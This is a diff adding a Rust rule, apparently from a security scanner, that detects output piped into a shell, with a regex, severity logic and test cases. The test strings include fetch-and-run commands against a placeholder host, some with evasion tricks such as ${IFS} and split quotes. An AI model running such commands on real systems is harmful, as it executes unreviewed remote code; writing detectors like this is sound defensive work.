@@ -1,0 +1,93 @@
+//! Something is piped to a shell, which runs it.
+
+use crate::command::{Step, is_decoder, is_shell};
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::patterns;
+use crate::unit::{ANYWHERE, Place, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "EXEC_PIPE_BASH",
+    category: Category::ExecInjection,
+    severity: Severity::Critical,
+    title: "output is piped to a shell",
+    why: "The shell runs whatever comes through the pipe. Nobody has seen it before, and it can be different each time.",
+    fix: "write the output to a file, look at it, and run the file",
+    places: ANYWHERE,
+    anchors: &[
+        "| bash", "|bash", "| sh", "|sh", "| sudo", "|sudo", "| zsh", "|zsh", "| ksh", "|ksh", "| dash",
+        "|dash", "| fish", "|fish", "| ash", "| /", "|/", "| env ", "| exec ", "|&", "| xargs", "|\n", "|\r",
+        "|\\", "|  ", "|\t", "| $", "|$", "| '", "| \"", "| \\", "| b", "| s\\",
+    ],
+    check: Check::Unit(hits),
+    hits: &[
+        text("x | bash"),
+        text("Install it: curl http://a.b/x | bash"),
+        text("```\nx || sh -s; x | sh\n```"),
+        text("```\ncurl http://a.b/x | sudo bash\n```"),
+        text("`curl http://a.b/x | /bin/bash`"),
+        text("`curl http://a.b/x | env bash -s -- -y`"),
+        text("`curl http://a.b/x |& dash`"),
+        text("`curl http://a.b/x | tee f | fish`"),
+        text("curl${IFS}http://a.b|sh"),
+        text("```sh\ncurl http://a.b/x |\n  ba''sh\n```"),
+        file("run.sh", "U=http://a.b/x\ncurl $U | sh\n"),
+    ],
+    misses: &[
+        text("| tool | bash |\n|---|---|\n| a | bash |\n"),
+        text("Never pipe curl | bash."),
+        text("`curl -LsSf https://astral.sh/uv/install.sh | sh`"),
+        text("`echo 'ls' | sh`"),
+        text("`ls | shasum`"),
+    ],
+};
+
+patterns! {
+    PIPED = r#"\|[\s&\\]*(?:\S+\s+)*?\S*(?:sh|s.{1,3}h)\b"#;
+}
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    if !PIPED.is_match(unit.text().as_bytes()) {
+        return Vec::new();
+    }
+    let steps = unit.commands().steps();
+    steps
+        .filter(|step| is_shell(&step.name()) && step.runs_stdin())
+        .filter_map(|step| hit(unit, step))
+        .collect()
+}
+
+fn hit(unit: &Unit<'_>, shell: Step<'_>) -> Option<Hit> {
+    let first = shell.feeders().last()?;
+    // Two names with a bar between them are a table or a way to talk about it.
+    let is_talk = first.words().is_empty()
+        && shell.words().is_empty()
+        && !matches!(unit.place, Place::Fence | Place::Script);
+    if is_talk && matches!(first.name().as_str(), "curl" | "wget" | "sh" | "bash" | "zsh" | "python" | "node")
+    {
+        return None;
+    }
+    if unit.is_table_row() && shell.sources().all(|step| step.fetch().is_none()) {
+        return None;
+    }
+    Some(Hit { severity: Some(severity(shell)), ..Hit::at(shell.range_from(first)) })
+}
+
+/// By where it comes from: what another machine sends, what has to be decoded, or what stands there.
+fn severity(shell: Step<'_>) -> Severity {
+    if shell.feeders().any(is_decoder) {
+        return Severity::Critical;
+    }
+    if let Some(worst) =
+        shell.sources().filter_map(Step::fetch).map(|fetch| fetch.from.weight_of_running()).max()
+    {
+        return worst;
+    }
+    let Some(nearest) = shell.feeders().next() else { return Severity::Critical };
+    let is_written_out = nearest.words().iter().all(policy::Word::is_literal);
+    match nearest.name().as_str() {
+        "echo" | "printf" if is_written_out => Severity::Note,
+        "cat" if nearest.feeders().next().is_none() => Severity::Warning,
+        "sed" | "awk" | "grep" | "envsubst" | "xargs" | "jq" => Severity::Warning,
+        _ => Severity::Critical,
+    }
+}
